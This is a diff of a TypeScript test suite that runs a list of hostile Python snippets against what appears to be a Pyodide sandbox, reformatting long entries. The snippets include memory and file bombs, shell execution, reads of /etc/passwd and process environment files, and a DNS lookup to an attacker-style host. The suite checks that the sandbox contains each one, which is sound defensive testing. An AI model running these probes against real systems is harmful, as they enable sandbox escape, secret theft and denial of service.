@@ -41,18 +41,34 @@ const attacks: ReadonlyArray<readonly [name: string, ending: string, code: strin
   ],
   ["sleep of years", timeOut, body("import time", "time.sleep(1e9)")],
   ["sleep in asyncio", timeOut, body("import asyncio", "asyncio.run(asyncio.sleep(1e6))")],
-  ["bomb that catches being out of memory", timeOut, body("a = []", "while True:", "    try: a.append('x' * 10 ** 6 + str(len(a)))", "    except MemoryError: pass")],
+  [
+    "bomb that catches being out of memory",
+    timeOut,
+    body("a = []", "while True:", "    try: a.append('x' * 10 ** 6 + str(len(a)))", "    except MemoryError: pass")
+  ],
   ["list of strings", memory, body("a = []", "while True: a.append('x' * 10 ** 6 + str(len(a)))")],
   ["large array of bytes", memory, body("return {'a': len(bytearray(10 ** 9))}")],
   ["string doubling", memory, body("a = 'x'", "while True: a += a")],
   ["dictionary bomb", memory, body("a = {}", "while True: a[len(a)] = [len(a)]")],
   ["nested list bomb", "code_threw", body("a = []", "while True: a = [a]")],
-  ["decompression bomb", memory, body("import zlib", "z = zlib.compress(b'0' * 10 ** 7)", "return {'a': len(zlib.decompress(zlib.compress(b'')) + zlib.decompress(z) * 100)}")],
+  [
+    "decompression bomb",
+    memory,
+    body(
+      "import zlib",
+      "z = zlib.compress(b'0' * 10 ** 7)",
+      "return {'a': len(zlib.decompress(zlib.compress(b'')) + zlib.decompress(z) * 100)}"
+    )
+  ],
   ["bomb of files", "code_threw", body("while True:", "    with open('/tmp/a', 'ab') as f: f.write(b'x' * 10 ** 6)")],
   ["file of many gigabytes", "code_threw", body("open('/tmp/a', 'wb').truncate(2 ** 33)")],
   ["bomb of empty files", "code_threw", body("for i in range(10 ** 9): open(f'/tmp/{i}', 'w').close()")],
   ["endless recursion", "code_threw", body("return main(name, port)")],
-  ["endless recursion without a limit", "code_threw", body("import sys", "sys.setrecursionlimit(2 ** 30)", "f = lambda x: sorted([x, x], key=f)", "f(1)")],
+  [
+    "endless recursion without a limit",
+    "code_threw",
+    body("import sys", "sys.setrecursionlimit(2 ** 30)", "f = lambda x: sorted([x, x], key=f)", "f(1)")
+  ],
   ["deeply nested JSON", "code_threw", body("import json", "json.loads('[' * 10 ** 6)")],
   ["deeply nested source", "code_threw", body("eval('(' * 10 ** 5 + ')' * 10 ** 5)")],
   ["text of a nested list", "code_threw", body("a = []", "for _ in range(10 ** 6): a = [a]", "return {'a': repr(a)}")],
@@ -65,7 +81,11 @@ const attacks: ReadonlyArray<readonly [name: string, ending: string, code: strin
   ["os.system", system, body("import os", "return {'a': os.system('id')}")],
   ["posix.system", system, body("import posix", "return {'a': posix.system('id')}")],
   ["os.popen", system, body("import os", "return {'a': os.popen('id').read()}")],
-  ["subprocess", system, body("import subprocess", "return {'a': subprocess.run(['id'], capture_output=True).stdout.decode()}")],
+  [
+    "subprocess",
+    system,
+    body("import subprocess", "return {'a': subprocess.run(['id'], capture_output=True).stdout.decode()}")
+  ],
   ["subprocess from below", "code_threw", body("import _posixsubprocess", "_posixsubprocess.fork_exec(*[None] * 23)")],
   ["fork", system, body("import os", "os.fork()")],
   ["exec", system, body("import os", "os.execv('/bin/sh', ['sh'])")],
@@ -77,7 +97,11 @@ const attacks: ReadonlyArray<readonly [name: string, ending: string, code: strin
   ["JavaScript of Pyodide", missing, body("import pyodide_js", "pyodide_js.mountNodeFS('/mnt', '/')")],
   ["run_js", missing, body("from pyodide.code import run_js", "return {'a': run_js('process.pid')}")],
   ["__import__", missing, body("return {'a': str(__import__('js'))}")],
-  ["import past the finders", system, body("import sys", "sys.meta_path[:] = sys.meta_path[1:]", "from pyodide.ffi import to_js", "to_js([])")],
+  [
+    "import past the finders",
+    system,
+    body("import sys", "sys.meta_path[:] = sys.meta_path[1:]", "from pyodide.ffi import to_js", "to_js([])")
+  ],
   [
     "interpreter's module made again",
     system,
@@ -111,8 +135,24 @@ const attacks: ReadonlyArray<readonly [name: string, ending: string, code: strin
       "    if isinstance(o, dict) and 'pyodide_js' in o: o['pyodide_js'].mountNodeFS('/mnt', '/')"
     )
   ],
-  ["ctypes from below", "code_threw", body("import _imp, importlib.util", "m = _imp.create_builtin(importlib.util.spec_from_loader('_ctypes', None))", "return {'a': m.dlopen(None, 0), 'b': m.dlsym(0, 'emscripten_run_script')}")],
-  ["library of its own", "code_threw", body("import _imp, importlib.util", "open('/tmp/x.so', 'wb').write(b'\\0asm\\1\\0\\0\\0')", "_imp.create_dynamic(importlib.util.spec_from_file_location('x', '/tmp/x.so'))")],
+  [
+    "ctypes from below",
+    "code_threw",
+    body(
+      "import _imp, importlib.util",
+      "m = _imp.create_builtin(importlib.util.spec_from_loader('_ctypes', None))",
+      "return {'a': m.dlopen(None, 0), 'b': m.dlsym(0, 'emscripten_run_script')}"
+    )
+  ],
+  [
+    "library of its own",
+    "code_threw",
+    body(
+      "import _imp, importlib.util",
+      "open('/tmp/x.so', 'wb').write(b'\\0asm\\1\\0\\0\\0')",
+      "_imp.create_dynamic(importlib.util.spec_from_file_location('x', '/tmp/x.so'))"
+    )
+  ],
   ["file of the host", "code_threw", body("return {'a': open('/etc/passwd').read()}")],
   ["process file of the host", "code_threw", body("return {'a': open('/proc/self/environ').read()}")],
   [
@@ -130,10 +170,22 @@ const attacks: ReadonlyArray<readonly [name: string, ending: string, code: strin
   ["environment", "ok", body("import os", "return {'a': dict(os.environ)}")],
   ["socket", network, body("import socket", "socket.create_connection(('127.0.0.1', port))")],
   ["socket by hand", network, body("import socket", "s = socket.socket()", "s.connect(('127.0.0.1', port))")],
-  ["socket from below", "code_threw", body("import _socket", "s = _socket.socket(2, 1, 0)", "s.connect(('127.0.0.1', port))")],
+  [
+    "socket from below",
+    "code_threw",
+    body("import _socket", "s = _socket.socket(2, 1, 0)", "s.connect(('127.0.0.1', port))")
+  ],
   ["listening socket", network, body("import socket", "socket.create_server(('', 0))")],
-  ["urllib", network, body("import urllib.request", "return {'a': urllib.request.urlopen(f'http://127.0.0.1:{port}/').read().decode()}")],
-  ["http.client", network, body("import http.client", "http.client.HTTPConnection('127.0.0.1', port).request('GET', '/')")],
+  [
+    "urllib",
+    network,
+    body("import urllib.request", "return {'a': urllib.request.urlopen(f'http://127.0.0.1:{port}/').read().decode()}")
+  ],
+  [
+    "http.client",
+    network,
+    body("import http.client", "http.client.HTTPConnection('127.0.0.1', port).request('GET', '/')")
+  ],
   ["asyncio connection", network, body("import asyncio", "asyncio.run(asyncio.open_connection('127.0.0.1', port))")],
   ["name server", network, body("import socket", "socket.gethostbyname(name + '.attacker.test')")],
   ["requests", missing, body("import requests", "requests.get(f'http://127.0.0.1:{port}/')")],
@@ -147,13 +199,32 @@ const attacks: ReadonlyArray<readonly [name: string, ending: string, code: strin
   ["KeyboardInterrupt", "code_threw", body("raise KeyboardInterrupt()")],
   ["closed streams", "ok", body("import os, sys", "sys.stdout.close()", "os.close(2)", "return {}")],
   ["streams that raise", "ok", body("import sys", "sys.stdout = sys.stderr = None", "return {}")],
-  ["no imports any more", "ok", body("import builtins, sys", "sys.modules.clear()", "builtins.__import__ = None", "return {}")],
+  [
+    "no imports any more",
+    "ok",
+    body("import builtins, sys", "sys.modules.clear()", "builtins.__import__ = None", "return {}")
+  ],
   ["no builtins any more", "code_worker_lost", body("import builtins", "builtins.__dict__.clear()", "return {}")],
-  ["replaced json", "ok", body("import json", "json.dumps = json.JSONEncoder.encode = lambda *a: 'mine'", "return {'a': 1}")],
+  [
+    "replaced json",
+    "ok",
+    body("import json", "json.dumps = json.JSONEncoder.encode = lambda *a: 'mine'", "return {'a': 1}")
+  ],
   ["file of the exchange removed", "ok", body("import os", "os.remove('/.flowglass')", "return {}")],
-  ["folder in place of the file of the exchange", "code_worker_lost", body("import os", "os.remove('/.flowglass')", "os.mkdir('/.flowglass')", "return {}")],
+  [
+    "folder in place of the file of the exchange",
+    "code_worker_lost",
+    body("import os", "os.remove('/.flowglass')", "os.mkdir('/.flowglass')", "return {}")
+  ],
   ["trace function", "ok", body("import sys", "sys.settrace(lambda *a: 1 / 0)", "return {}")],
-  ["names of JavaScript's prototypes", "ok", body("for n in ['__proto__', 'constructor']: open('/tmp/' + n, 'w').write('x')", "return {'__proto__': {'polluted': 1}, 'constructor': 1}")],
+  [
+    "names of JavaScript's prototypes",
+    "ok",
+    body(
+      "for n in ['__proto__', 'constructor']: open('/tmp/' + n, 'w').write('x')",
+      "return {'__proto__': {'polluted': 1}, 'constructor': 1}"
+    )
+  ],
   ["result that lies", "ok", body("class D(dict):", "    def items(self): return [('mine', 1)]", "return D(a=1)")],
   ["set as result", "code_result_invalid", body("return {'a': {1, 2}}")],
   ["list as result", "code_result_invalid", body("return [1]")],
@@ -227,7 +298,8 @@ describe("hostile Python", () => {
           const took = performance.now() - started
           const ended = Result.isSuccess(outcome) ? "ok" : outcome.failure.code
           const shown = JSON.stringify(outcome)
-          if (process.env["SHOW"]) process.stdout.write(`${name}: ${took.toFixed(0)} ms ${ended} ${shown.slice(0, 260)}\n`)
+          if (process.env["SHOW"])
+            process.stdout.write(`${name}: ${took.toFixed(0)} ms ${ended} ${shown.slice(0, 260)}\n`)
           if (ended !== ending) wrong.push(`${name}: ${ended} instead of ${ending}: ${shown.slice(0, 300)}`)
           if (took > limits.timeout + 500) wrong.push(`${name}: took ${Math.round(took)} ms`)
           if (shown.includes(canary)) wrong.push(`${name}: saw the secret`)
